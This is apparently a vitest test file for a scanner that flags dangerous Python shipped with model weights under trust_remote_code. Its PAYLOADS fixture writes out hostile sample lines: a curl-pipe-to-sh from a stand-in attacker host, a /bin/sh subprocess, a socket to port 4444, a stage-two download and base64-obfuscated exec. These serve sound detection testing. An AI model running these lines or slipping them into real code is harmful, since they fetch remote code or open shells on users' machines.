/**
 * Python shipped beside the weights (trust_remote_code): found by a static text search, never run.
 * Payload calls make scan and compare say malicious-code; custom code alone is high (scan:
 * inconclusive; compare: tampered only when the known-good does not ship it); ordinary modelling
 * code (model.eval(), torch.compile()) raises no hazard.
 */
import { describe, expect, it } from 'vitest';
import { InProcessRunner } from '../../../src/lib/analysis/runner.ts';
import { scanModel } from '../../../src/lib/analysis/scan.ts';
import { CpuEngine } from '../../../src/lib/engine/engine.ts';
import { createNodeSha256 } from '../../../src/lib/evidence/sha256-node.ts';
import { autoMapNotices, remoteCodeNotices } from '../../../src/lib/formats/hf/remote-code.ts';
import { compareInProcess, memorySources } from '../../fixtures/compare-both.ts';
import { singleFile, utf8, type ModelFiles } from '../../fixtures/model-files.ts';
import { tinyConfigJson, tinyLlama, TINY } from '../../fixtures/tiny-llama.ts';

const BENIGN = `import math
# We never call os.system("...") or subprocess.run here.
import torch
from torch import nn

class TinyForCausalLM(nn.Module):
    def forward(self, x):
        self.eval()
        y = torch.compile(self.inner)(x)
        return y * math.sqrt(2)
`;

const PAYLOADS: Record<string, string> = {
  process: 'import os\nos.system("curl -s https://attacker.example/x | sh")\n',
  subprocess: 'import subprocess\nsubprocess.Popen(["/bin/sh", "-c", "id"])\n',
  network: 'import socket\ns = socket.socket(); s.connect(("10.0.0.1", 4444))\n',
  urllib: 'from urllib.request import urlopen\nurlopen("http://x/stage2").read()\n',
  'obfuscated-exec': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
};

const scan = (files: ModelFiles) => scanModel(new InProcessRunner({ knownGood: [], suspect: memorySources(files) }, createNodeSha256, new CpuEngine()), { toolVersion: 'test' });

function model(extra: Record<string, string> = {}, autoMap = false): ModelFiles {
  const config = JSON.parse(tinyConfigJson(TINY)) as Record<string, unknown>;
  if (autoMap) config['auto_map'] = { AutoModelForCausalLM: 'modeling_tiny.TinyForCausalLM' };
  const files: ModelFiles = { 'model.safetensors': singleFile(tinyLlama(TINY, 3)), 'config.json': utf8(JSON.stringify(config)) };
  for (const [p, text] of Object.entries(extra)) files[p] = utf8(text);
  return files;
}

describe('remote-code static search', () => {
  it('ordinary modelling code is high (it runs on load) with no hazard', () => {
    const [n] = remoteCodeNotices('modeling_tiny.py', BENIGN);
    expect(n?.severity).toBe('high');
    expect(n?.details?.['hazards']).toEqual([]);
  });
  for (const [name, text] of Object.entries(PAYLOADS)) {
    it(`${name}: critical, with the line and its byte offset`, () => {
      const [n] = remoteCodeNotices('modeling_tiny.py', `${BENIGN}\n${text}`);
      expect(n?.severity).toBe('critical');
      const hazards = n?.details?.['hazards'] as { key: string; line: number }[];
      expect(hazards.some((h) => h.line > BENIGN.split('\n').length)).toBe(true);
      expect(n?.offset).toBeGreaterThan(BENIGN.length);
    });
  }
  it('auto_map targets are named; a config without one says nothing', () => {
    expect(autoMapNotices('config.json', JSON.stringify({ auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModel: ['modeling_x.X', null] } }))[0]?.message).toContain('AutoModel → modeling_x.X');
    expect(autoMapNotices('config.json', '{"model_type":"llama"}')).toEqual([]);
    expect(autoMapNotices('config.json', 'not json')).toEqual([]);
  });
});

describe('remote code in scan and compare', () => {
  it('scan: a payload in modeling_*.py is malicious-code naming the file; custom code alone is inconclusive; none is clean', async () => {
    const bad = await scan(model({ 'modeling_tiny.py': `${BENIGN}\n${PAYLOADS['process']}` }, true));
    expect(bad.verdict.status).toBe('malicious-code');
    expect(bad.findings.find((f) => f.kind === 'remote-code' && f.severity === 'critical')?.file).toBe('modeling_tiny.py');
    expect(bad.findings.some((f) => f.kind === 'remote-code' && f.file === 'config.json')).toBe(true);
    expect((await scan(model({ 'modeling_tiny.py': BENIGN }, true))).verdict.status).toBe('inconclusive');
    expect((await scan(model())).verdict.status).toBe('clean');
  });

  it('compare: the same benign code on both sides is clean; added code is tampered; a payload is malicious-code', async () => {
    const kg = model({ 'modeling_tiny.py': BENIGN }, true);
    expect((await compareInProcess(kg, model({ 'modeling_tiny.py': BENIGN }, true))).verdict.status).toBe('clean');
    expect((await compareInProcess(model(), model({ 'modeling_tiny.py': BENIGN }, true))).verdict.status).toBe('tampered');
    const r = await compareInProcess(kg, model({ 'modeling_tiny.py': `${BENIGN}\n${PAYLOADS['network']}` }, true));
    expect(r.verdict.status).toBe('malicious-code');
    expect(r.findings.find((f) => f.kind === 'remote-code' && f.severity === 'critical')?.message).toMatch(/network connection/);
  });
});
